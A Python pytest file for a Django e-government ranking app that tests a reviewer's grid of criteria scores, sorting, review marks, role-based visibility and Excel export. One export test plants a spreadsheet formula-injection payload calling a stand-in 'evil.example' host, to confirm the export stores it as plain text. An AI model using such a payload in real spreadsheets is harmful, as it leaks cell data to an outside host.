"""The reviewer's grid: every unit × every criterion of a block, self-assessed or
verified, sorted by any column, with its marks, and its Excel export."""

from __future__ import annotations

import io
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from egovrank.assessments.choices import AssessmentState
from egovrank.assessments.models import Answer, Assessment, EvidenceLink
from egovrank.assessments.tests.test_shared_figures import shared  # noqa: F401 - fixture
from egovrank.periods.models import Participant
from egovrank.results.compute import compute
from egovrank.results.grid import INCONSISTENT, MISSING_EVIDENCE, OUTLIER, build_grid

from .conftest import client_of
from .helpers import add_communes, adjust, reviewed, set_state

pytestmark = pytest.mark.django_db

# Khối 03 answers every commune gives alike; HT2 is the one a test makes differ.
ALIKE = {"HT1": "8/10", "HT2": "yes", "UD3": "A", "WEB1": "yes", "WEB2": "3"}


def submitted(participant, values, state=AssessmentState.SUBMITTED):
    assessment, _new = Assessment.objects.get_or_create(participant=participant)
    Answer.objects.filter(assessment=assessment).delete()
    Answer.objects.bulk_create(
        Answer(assessment=assessment, code=code, value=value) for code, value in values.items()
    )
    return set_state(assessment, state)


def everyone(period):
    return set(Participant.objects.filter(period=period).values_list("pk", flat=True))


def grid_of(world, block="KHOI03", **options):
    found = build_grid(world.period, block, everyone(world.period), **options)
    assert found is not None
    return found


def cell(found, unit_code, code):
    index = [column.code for column in found.columns].index(code)
    row = next(row for row in found.rows if row.participant.unit_code == unit_code)
    return row.cells[index]


def kinds(found):
    return {
        (row.participant.unit_code, column.code, flag.kind)
        for row in found.rows
        for column, cell_ in zip(found.columns, row.cells, strict=True)
        for flag in cell_.flags
    }


# --- content, switch, sorting ----------------------------------------------------------


def test_the_grid_holds_every_unit_and_criterion_with_the_results_points(world):
    reviewed(world)
    found = grid_of(world, "KHOI01")
    block = compute(world.period)["KHOI01"]
    assert [column.code for column in found.columns] == [
        leaf.code for leaf in block.criteria_set.leaves() if leaf.rule is not None
    ]
    assert [row.participant.unit_name for row in found.rows] == [
        "Sở Tài chính",
        "Sở Thông tin và Truyền thông",
        "Sở Xây dựng",
    ]
    for row, facts in block.rows():
        mine = next(r for r in found.rows if r.participant.unit_code == row.unit.code)
        if not facts.counted:  # Sở Xây dựng did not submit
            assert mine.total is None and all(c.points is None for c in mine.cells)
            continue
        assert mine.total == row.score.points
        for column, shown in zip(found.columns, mine.cells, strict=True):
            assert shown.points == row.score.points_of(column.code)


def test_the_switch_shows_the_self_assessed_or_the_verified_points(world):
    submitted(world.participants["lacdao"], ALIKE, AssessmentState.IN_REVIEW)
    assessment = Assessment.objects.get(participant=world.participants["lacdao"])
    adjust(assessment, "HT2", "no", by=world.district_reviewer)
    own = cell(grid_of(world, mode="self"), "11989", "HT2")
    verified = cell(grid_of(world, mode="verified"), "11989", "HT2")
    assert (own.points, verified.points) == (Decimal(10), Decimal(0))
    # Through the page: the parameter chooses, anything else means self-assessed.
    client = client_of(world.administrator)
    url = reverse("review:grid", kwargs={"year": 2019})
    page = client.get(url, {"block": "KHOI03", "show": "verified"}).content.decode()
    assert '<strong aria-current="true">verified points</strong>' in page
    page = client.get(url, {"block": "KHOI03", "show": "nonsense"}).content.decode()
    assert '<strong aria-current="true">self-assessed points</strong>' in page


def test_rows_sort_by_any_column_either_way_units_without_points_last(world):
    submitted(world.participants["lacdao"], {**ALIKE, "WEB2": "1"})
    submitted(world.participants["chidao"], {**ALIKE, "WEB2": "5"})
    # Xuân Quan has not submitted.

    def order(**options):
        return [row.participant.unit_code for row in grid_of(world, **options).rows]

    assert order() == ["11992", "11989", "12022"]  # Chỉ Đạo, Lạc Đạo, Xuân Quan
    assert order(sort="unit", descending=True) == ["12022", "11989", "11992"]
    assert order(sort="WEB2") == ["11989", "11992", "12022"]
    assert order(sort="WEB2", descending=True) == ["11992", "11989", "12022"]
    assert order(sort="total", descending=True)[-1] == "12022"
    assert order(sort="no such column") == order()
    assert order(sort="state") == ["12022", "11992", "11989"]  # Chưa bắt đầu before Đã nộp
    client = client_of(world.administrator)
    url = reverse("review:grid", kwargs={"year": 2019})
    page = client.get(url, {"block": "KHOI03", "sort": "WEB2", "order": "desc"}).content.decode()
    assert page.index("Xã Chỉ Đạo") < page.index("Xã Lạc Đạo") < page.index("Xã Xuân Quan")
    assert 'aria-sort="descending"' in page
    assert "?block=KHOI03&amp;sort=WEB2&amp;order=asc" in page  # the way back


# --- marks ------------------------------------------------------------------------------


def test_an_outlier_against_the_block_is_marked_with_the_block_s_range(world):
    communes = [world.participants[key] for key in ("lacdao", "chidao", "xuanquan")]
    communes += add_communes(world, 3)
    for participant in communes:
        submitted(participant, ALIKE)
    assert OUTLIER not in {kind for *_rest, kind in kinds(grid_of(world))}
    submitted(world.participants["lacdao"], {**ALIKE, "HT2": "no"})
    found = grid_of(world)
    assert {(u, c) for u, c, kind in kinds(found) if kind == OUTLIER} == {("11989", "HT2")}
    assert "outside the block's usual range 10–10 (median 10 over 6 units)" in (
        cell(found, "11989", "HT2").reasons
    )


def test_no_outlier_is_marked_in_a_block_of_fewer_than_five_units(world):
    for key in ("lacdao", "chidao", "xuanquan"):
        submitted(world.participants[key], ALIKE)
    submitted(world.participants["lacdao"], {**ALIKE, "HT2": "no"})
    assert OUTLIER not in {kind for *_rest, kind in kinds(grid_of(world))}


def test_missing_evidence_is_marked_unless_attached_or_explained(world):
    for key in ("lacdao", "chidao", "xuanquan"):
        submitted(world.participants[key], ALIKE)
    lacdao = Assessment.objects.get(participant=world.participants["lacdao"])
    chidao = Assessment.objects.get(participant=world.participants["chidao"])
    EvidenceLink.objects.create(
        assessment=lacdao, code="WEB1", title="Quyết định 12", added_by=world.commune_officer
    )
    Answer.objects.filter(assessment=chidao, code="WEB1").update(
        evidence_explanation="Trang đang nâng cấp"
    )
    found = grid_of(world)
    missing = {(u, c) for u, c, kind in kinds(found) if kind == MISSING_EVIDENCE}
    assert ("12022", "WEB1") in missing  # neither attached nor explained
    assert ("11989", "WEB1") not in missing
    assert ("11992", "WEB1") not in missing
    assert cell(found, "12022", "WEB1").reasons == "Required evidence is missing."


def test_inconsistent_figures_are_marked_from_the_refusals_of_the_rules(shared):  # noqa: F811
    submitted(shared.participants["sotc"], {"TONG_CBCCVC": "50", "HT1": "60"})
    submitted(shared.participants["soxd"], {"TONG_CBCCVC": "80", "HT1": "40"})
    found = grid_of(shared, "KHOI01")
    inconsistent = {(u, c) for u, c, kind in kinds(found) if kind == INCONSISTENT}
    assert ("K01-05", "HT1") in inconsistent
    assert not {pair for pair in inconsistent if pair[0] == "K01-09"}
    assert "is above the shared figure TONG_CBCCVC (50)" in cell(found, "K01-05", "HT1").reasons


def test_the_page_shows_each_mark_with_its_reason_and_the_legend(world):
    for key in ("lacdao", "chidao", "xuanquan"):
        submitted(world.participants[key], ALIKE)
    client = client_of(world.administrator)
    page = client.get(reverse("review:grid", kwargs={"year": 2019}), {"block": "KHOI03"})
    html = page.content.decode()
    assert (
        'class="num grid-cell grid-cell--missing-evidence" title="Required evidence is missing."'
        in html
    )
    assert "Outlier against the block" in html  # the legend explains every mark
    assert "Q1 − 1.5 × IQR" in html


# --- who sees what ------------------------------------------------------------------------


def test_a_district_reviewer_sees_only_the_communes_it_reviews(world):
    client = client_of(world.district_reviewer)
    page = client.get(reverse("review:grid", kwargs={"year": 2019})).content.decode()
    assert "Xã Lạc Đạo" in page and "Xã Chỉ Đạo" in page
    assert "Xã Xuân Quan" not in page
    assert 'id="grid-block"' not in page  # one block only: nothing to choose
    url = reverse("review:grid", kwargs={"year": 2019})
    assert client.get(url, {"block": "KHOI01"}).status_code == 404


# --- the export --------------------------------------------------------------------------


def test_the_export_is_the_same_grid_with_fills_comments_and_a_legend(world):
    Participant.objects.filter(pk=world.participants["xuanquan"].pk).update(
        unit_name='=HYPERLINK("http://evil.example/?x="&A2)'
    )
    for key in ("lacdao", "chidao", "xuanquan"):
        submitted(world.participants[key], ALIKE)
    client = client_of(world.administrator)
    url = reverse("review:grid_export", kwargs={"year": 2019})
    response = client.get(url, {"block": "KHOI03", "sort": "WEB2", "order": "desc"})
    assert response.status_code == 200
    assert response["Content-Disposition"] == ('attachment; filename="grid-2019-KHOI03-self.xlsx"')
    workbook = load_workbook(io.BytesIO(response.content))
    sheet = workbook["KHOI03"]
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][:5] == ("Unit code", "Unit", "State", "Total", "TT1")
    found = grid_of(world, sort="WEB2", descending=True)
    assert [row[0] for row in rows[1:]] == [row.participant.unit_code for row in found.rows]
    header = list(rows[0])
    web1 = header.index("WEB1") + 1
    xuanquan = [row[0] for row in rows].index("12022") + 1
    marked = sheet.cell(row=xuanquan, column=web1)
    assert marked.fill.fgColor.rgb.endswith("D6E4F5")
    assert marked.comment.text == "Required evidence is missing."
    name = sheet.cell(row=xuanquan, column=2)
    assert name.data_type == "s" and name.value.startswith("=HYPERLINK")  # never a formula
    points = sheet.cell(row=xuanquan, column=header.index("HT2") + 1).value
    assert points == 10
    legend = [row[0] for row in workbook["Legend"].iter_rows(values_only=True)]
    assert {"Inconsistent figures", "Missing evidence", "Outlier against the block"} <= set(legend)


# --- queries ---------------------------------------------------------------------------


@pytest.mark.parametrize("extra", [0, 40])
def test_the_grid_costs_the_same_queries_however_many_units(
    world, django_assert_num_queries, extra
):
    reviewed(world)
    add_communes(world, extra)
    client = client_of(world.administrator)
    client.get(reverse("front:workspace"))  # the session is renewed here, not below
    url = reverse("review:grid", kwargs={"year": 2019})
    with django_assert_num_queries(QUERIES["page"]):
        assert client.get(url, {"block": "KHOI03"}).status_code == 200
    with django_assert_num_queries(QUERIES["export"]):
        export = reverse("review:grid_export", kwargs={"year": 2019})
        assert client.get(export, {"block": "KHOI03"}).status_code == 200


# Session, user, roles (and on a page the unread notices); the period, the visible
# participants; compute's five; the evidence's three.
QUERIES = {"page": 14, "export": 13}
